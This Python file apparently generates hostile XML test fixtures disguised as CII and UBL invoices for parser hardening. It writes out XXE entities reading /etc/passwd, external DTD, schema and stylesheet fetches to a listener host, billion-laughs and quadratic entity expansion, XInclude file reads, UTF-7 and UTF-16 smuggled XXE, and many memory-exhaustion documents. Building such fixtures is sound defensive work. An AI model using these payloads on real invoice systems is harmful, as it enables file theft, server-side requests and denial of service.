"""XML that reads files, calls home, or swells: as an invoice, and harmless looking."""

CII = '<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100">{}</rsm:CrossIndustryInvoice>'
UBL = '<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">{}</Invoice>'
HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'


def _with(doctype, inside, form=CII):
    return (HEAD + doctype + form.format(inside)).encode()


def _swelling():
    """As large as is taken, and each a heavy load for some careless step."""
    namespaces = "".join("<a " + " ".join(f'xmlns:n{depth}x{n}="u"' for n in range(900)) + ">" for depth in range(40))
    yield "namespaces-nested", namespaces + "<z:a/>" * 190_000 + "</a>" * 40
    yield "many-attributes", ("<a " + " ".join(f'a{n}=""' for n in range(990)) + "/>") * 1900
    yield "many-lines", "<InvoiceLine><Item><Name>n</Name></Item><LineExtensionAmount>1.00</LineExtensionAmount></InvoiceLine>" * 49_000
    yield "many-rates", "<TaxTotal>" + "<TaxSubtotal><Percent>1</Percent><TaxAmount>1</TaxAmount></TaxSubtotal>" * 60_000 + "</TaxTotal>"
    yield "long-number", "<LegalMonetaryTotal><PayableAmount>" + "9" * 8_000_000 + "</PayableAmount></LegalMonetaryTotal>"
    yield "long-text", "<ID>" + "a b " * 3_500_000 + "</ID>"
    yield "long-account", "<PaymentMeans><PayeeFinancialAccount><ID>" + "DE1" * 2_000_000 + "</ID></PayeeFinancialAccount></PaymentMeans>"
    yield "long-tax-number", ("<AccountingSupplierParty><Party><PartyTaxScheme><CompanyID>" + "DE1" * 2_000_000
                              + "</CompanyID></PartyTaxScheme></Party></AccountingSupplierParty>")
    yield "long-name", "<" + "a" * 8_000_000 + "/>"
    yield "many-prefixes", "<" + "a:" * 1_000_000 + "b/>"
    yield "many-references", "<ID>" + "&amp;" * 3_000_000 + "</ID>"
    yield "many-sections", "<ID>" + "<![CDATA[a]]>" * 1_000_000 + "</ID>"


def files(listener="127.0.0.1:9"):
    """`listener` is where nobody may connect to."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    for name, form in (("cii", CII), ("ubl", UBL)):
        yield f"xml-{name}-xxe-file.xml", _with('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "<a>&x;</a>", form)
        yield f"xml-{name}-xxe-http.xml", _with(f'<!DOCTYPE a [<!ENTITY x SYSTEM "http://{listener}/x">]>', "<a>&x;</a>", form)
        yield f"xml-{name}-xxe-ftp.xml", _with(f'<!DOCTYPE a [<!ENTITY x SYSTEM "ftp://{listener}/x">]>', "<a>&x;</a>", form)
        yield f"xml-{name}-dtd-http.xml", _with(f'<!DOCTYPE a SYSTEM "http://{listener}/x.dtd">', "", form)
        yield f"xml-{name}-parameter.xml", _with(f'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://{listener}/p"> %p;]>', "", form)
        yield f"xml-{name}-laughs.xml", _with(f'<!DOCTYPE a [<!ENTITY l0 "lol">{laughs}]>', "<a>&l9;</a>", form)
        yield f"xml-{name}-quadratic.xml", _with(f'<!DOCTYPE a [<!ENTITY q "{"A" * 50_000}">]>', "<a>" + "&q;" * 50_000 + "</a>", form)
        yield f"xml-{name}-xinclude.xml", _with(
            "", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>', form)
        yield f"xml-{name}-schema.xml", _with(
            "", f'<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x http://{listener}/s.xsd"/>', form)
        yield f"xml-{name}-stylesheet.xml", (
            HEAD + f'<?xml-stylesheet href="http://{listener}/s.xsl"?>' + form.format("")).encode()
        yield f"xml-{name}-deep.xml", _with("", "<a>" * 200_000 + "</a>" * 200_000, form)
        yield f"xml-{name}-deep-unclosed.xml", _with("", "<a>" * 1_000_000, form)
        yield f"xml-{name}-6mib.xml", _with("", "<a>" + "x" * (6 << 20) + "</a>", form)
        yield f"xml-{name}-attributes.xml", _with("", "<a " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>", form)
        yield f"xml-{name}-namespaces.xml", _with("", "<a " + " ".join(f'xmlns:n{n}="u{n}"' for n in range(20_000)) + "/>", form)
        yield f"xml-{name}-comments.xml", _with("", "<!-- x -->" * 200_000, form)
        yield f"xml-{name}-utf16.xml", ('<?xml version="1.0" encoding="UTF-16"?>' + form.format("")).encode("utf-16")
        yield f"xml-{name}-utf16-xxe.xml", (
            '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + form.format("&x;")).encode("utf-16")
        yield f"xml-{name}-utf7.xml", (
            '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE a [+ADw-!ENTITY x SYSTEM "file:///etc/passwd"+AD4-]+AD4-' + form.format("")).encode()
        yield f"xml-{name}-lying-encoding.xml", ('<?xml version="1.0" encoding="EBCDIC-CP-US"?>' + form.format("")).encode()
        yield f"xml-{name}-nul.xml", _with("", "<a>\0</a>", form)
        yield f"xml-{name}-unclosed.xml", _with("", "<a><b></a>", form)
    for name, inside in _swelling():
        yield f"xml-{name}.xml", _with("", inside, UBL)
